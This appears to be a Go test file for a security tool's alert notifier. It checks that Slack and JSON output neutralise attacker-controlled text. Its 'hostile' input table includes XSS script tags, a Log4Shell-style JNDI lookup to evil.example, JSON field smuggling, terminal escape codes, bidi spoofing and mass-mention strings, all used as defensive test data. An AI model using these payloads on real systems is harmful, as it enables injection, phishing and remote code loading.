package notify_test

import (
	"encoding/json"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/gatehound/gatehound/schemas"
)

// hostile are texts that an attacker could get into an alert.
var hostile = map[string]string{
	"mentions":      "<!channel> <!here> <!everyone> <@U012AB3CD> <#C0123> @here @channel @everyone <!subteam^S012>",
	"links":         "<https://evil.example/x|your bank> https://evil.example http://evil.example/ [click](https://evil.example) mailto:a@evil.example",
	"markup":        "*bold* _italic_ ~gone~ `code` ``` end of block ``` > quote\n# head :skull: &lt;b&gt; &amp;amp;",
	"bidi":          "user\u202egnp.exe \u2066\u2067\u2068\u2069 \u200e\u200f \u061c",
	"invisible":     "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u3164\u115f\U000e0041\U000e0042b\ufe0f\u034f",
	"controls":      "a\x00\x07\x08\x1b[31mred\x1b[0m\x7f\u0085\u009b31m\r\nINJECTED: line\t\v\f\u2028\u2029",
	"invalid utf-8": "a\xff\xfe\xc0\xaf\xed\xa0\x80 b",
	"zalgo":         "z" + strings.Repeat("\u0300\u0301\u0336", 200),
	"json":          `","admin":true,"x":"\u0000 </script><script>alert(1)</script> ${jndi:ldap://evil.example/x} {{7*7}}`,
	"astral":        strings.Repeat("𝒳😀", 3000),
	"long":          strings.Repeat("<&>", 7_000),
	"empty":         "",
}

// fill sets every string that can be reached from v.
func fill(v any, text string) { fillValue(reflect.ValueOf(v).Elem(), text) }

func fillValue(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fillValue(v.Elem(), text)
	case reflect.Slice:
		for i := range v.Len() {
			fillValue(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				fillValue(v.Field(i), text)
			}
		}
	}
}

func sample(state schemas.AlertState) schemas.Alert {
	at := time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)
	f := schemas.Finding{
		ID: "0123456789abcdef0123456789abcdef", Detector: "extraction.harvest",
		Entity:   schemas.Entity{Kind: schemas.EntityPrincipal, Name: "h1:k1:q83vEjRWeJA"},
		Severity: schemas.SeverityHigh, Confidence: 0.87, Title: "Model extraction", Summary: "One caller asks like a machine.",
		WindowStart: at, WindowEnd: at.Add(time.Hour), Detected: at.Add(time.Hour), Events: 5021,
		Features: []schemas.Feature{
			{Name: "requests", Observed: 5021, Expected: 240, Unit: "requests/h", Weight: 0.6, Text: "requests in an hour"},
			{Name: "distinct_prompts", Observed: 0.997, Expected: 0.4, Weight: 0.4, Text: "share of distinct prompts"},
		},
		Techniques: []schemas.Technique{
			{Framework: "MITRE ATLAS", ID: "AML.T0024.002", Name: "Extract AI Model"},
			{Framework: "MITRE ATT&CK", ID: "T1110", Name: "Brute Force"},
			{Framework: "OWASP LLM 2025", ID: "LLM10", Name: "Unbounded Consumption"},
		},
		Query:    "SELECT time, route FROM events WHERE principal = 'h1:k1:q83vEjRWeJA' AND status < 500",
		Provider: "openai", Model: "gpt-4o", Samples: []string{"req-1", "req-2"},
	}
	return schemas.Alert{
		ID: "fedcba9876543210fedcba9876543210", Fingerprint: "aaaaaaaaaaaaaaaabbbbbbbbbbbbbbbb", State: state, Sequence: 1 + int(state),
		Severity: f.Severity, Confidence: f.Confidence, Title: f.Title, Summary: f.Summary, Detector: f.Detector, Entity: f.Entity,
		Tenant: "acme", FirstSeen: at, LastSeen: f.WindowEnd, Findings: 3, Events: 12000, Finding: f,
	}
}

// visible checks that text has nothing that acts on a viewer or is not shown.
func visible(t *testing.T, where, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is no valid UTF-8", where)
	}
	marks := 0
	for _, c := range text {
		if unicode.Is(unicode.M, c) {
			marks++
		} else {
			marks = 0
		}
		if c != '\n' && c != '\t' && (unicode.IsControl(c) || unicode.In(c, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co)) || marks > 3 {
			t.Errorf("%s has %U", where, c)
			return
		}
	}
}

// harmlessJSON: the document is one line of valid JSON that a terminal can
// show.
func harmlessJSON(t *testing.T, r request) {
	t.Helper()
	doc := strings.TrimSuffix(string(r.body), "\n")
	visible(t, "the document", strings.Map(func(c rune) rune {
		if unicode.Is(unicode.M, c) { // JSON keeps marks, within strings
			return -1
		}
		return c
	}, doc))
	if strings.ContainsAny(doc, "\n\r<>") || !json.Valid([]byte(doc)) {
		t.Errorf("the document is not one line of valid JSON: %.200s", doc)
	}
}

var (
	ownLink = regexp.MustCompile(`<https://(atlas\.mitre\.org|attack\.mitre\.org|genai\.owasp\.org|owasp\.org)/[A-Za-z0-9./-]*\|[^<>|]*>`)
	entity  = regexp.MustCompile(`&(amp|lt|gt);`)
	mention = regexp.MustCompile(`(?i)@(here|channel|everyone)`)
)

// harmlessSlack: nothing of the alert's text is markup, a mention or a link,
// and Slack's limits are kept.
func harmlessSlack(t *testing.T, r request) {
	t.Helper()
	inert := func(where, text string, limit int) {
		t.Helper()
		visible(t, where, text)
		if n := utf8.RuneCountInString(text); n > limit || n == 0 {
			t.Errorf("%s has %d characters, want 1 to %d", where, n, limit)
		}
		bare := entity.ReplaceAllString(text, "")
		if strings.ContainsAny(bare, "<>&") || mention.MatchString(bare) {
			t.Errorf("%s is not escaped: %.200q", where, text)
		}
	}
	text := r.form.Get("text")
	inert("the text", text, 4000)
	if strings.ContainsAny(text, "*`~\n") || strings.Contains(text, "://") {
		t.Errorf("the text has markup: %.200q", text)
	}
	var blocks []struct {
		Type   string
		Text   *struct{ Type, Text string }
		Fields []struct{ Type, Text string }
		// A context's elements.
		Elements []struct{ Type, Text string }
	}
	if err := json.Unmarshal([]byte(r.form.Get("blocks")), &blocks); err != nil {
		t.Fatal(err)
	}
	if len(blocks) == 0 || len(blocks) > 50 {
		t.Errorf("%d blocks", len(blocks))
	}
	check := func(kind, typ, text string, limit int) {
		t.Helper()
		switch {
		case typ == "plain_text":
			inert(kind, text, limit)
			if strings.Contains(text, "://") {
				t.Errorf("%s has a link: %.200q", kind, text)
			}
			if strings.Contains(text, "INJECTED") && strings.Contains(text, "\nINJECTED") {
				t.Errorf("%s has a line of the attacker's", kind)
			}
		case kind == "context":
			inert(kind, ownLink.ReplaceAllString(text, "link"), limit)
			if strings.ContainsAny(text, "*`~") {
				t.Errorf("%s has markup: %.200q", kind, text)
			}
		default: // the query
			rest, ok1 := strings.CutPrefix(text, "*Evidence*\n```\n")
			rest, ok2 := strings.CutSuffix(rest, "\n```")
			if !ok1 || !ok2 || strings.Contains(rest, "`") {
				t.Errorf("%s is no code block: %.200q", kind, text)
			}
			inert(kind, rest, limit)
		}
	}
	for _, b := range blocks {
		limit := 3000
		if b.Type == "header" {
			limit = 150
		}
		if b.Text != nil {
			check(b.Type, b.Text.Type, b.Text.Text, limit)
		}
		if len(b.Fields) > 10 || len(b.Elements) > 10 {
			t.Errorf("%d fields, %d elements", len(b.Fields), len(b.Elements))
		}
		for _, f := range b.Fields {
			check("field", f.Type, f.Text, 2000)
		}
		for _, e := range b.Elements {
			check("context", e.Type, e.Text, 2000)
		}
	}
}
